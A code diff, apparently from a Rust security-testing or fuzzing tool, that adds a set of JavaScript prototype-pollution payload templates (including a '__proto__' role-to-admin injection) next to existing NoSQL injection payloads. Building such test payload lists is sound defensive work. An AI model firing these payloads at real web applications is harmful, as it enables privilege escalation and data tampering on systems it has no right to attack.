@@ -37,6 +37,7 @@ pub(crate) fn templates(class: Class) -> &'static [&'static str] {
         Class::Ldap => LDAP,
         Class::Lookup => LOOKUP,
         Class::NoSql => NOSQL,
+        Class::Prototype => PROTOTYPE,
         Class::Splitting => SPLITTING,
         Class::Sql => SQL,
         Class::Ssrf => SSRF,
@@ -138,6 +139,19 @@ const NOSQL: &[&str] = &[
     "[$regex][]",
     "'}, {$set: {role: '{w}'}}, {multi: true}); //",
     "\"}, {\"$inc\": {\"{w}\": {n}}}",
+];
+
+const PROTOTYPE: &[&str] = &[
+    "{\"__proto__\": {\"{w}\": true}}",
+    "{\"{w}\": {\"__proto__\": {\"role\": \"admin\"}}}",
+    "{\"constructor\": {\"prototype\": {\"{w}\": {n}}}}",
+    "{\"a\": [{\"constructor\": {\"prototype\": {\"{w}\": 1}}}]}",
+    "__proto__.{w}",
+    "/__proto__/{w}",
+    "constructor.prototype.{w}",
+    "{w}.constructor.prototype.{w}",
+    "{w}[__proto__][{n}]",
+    "{w}[constructor][prototype]",
 ];
 
 const COMMAND: &[&str] = &[
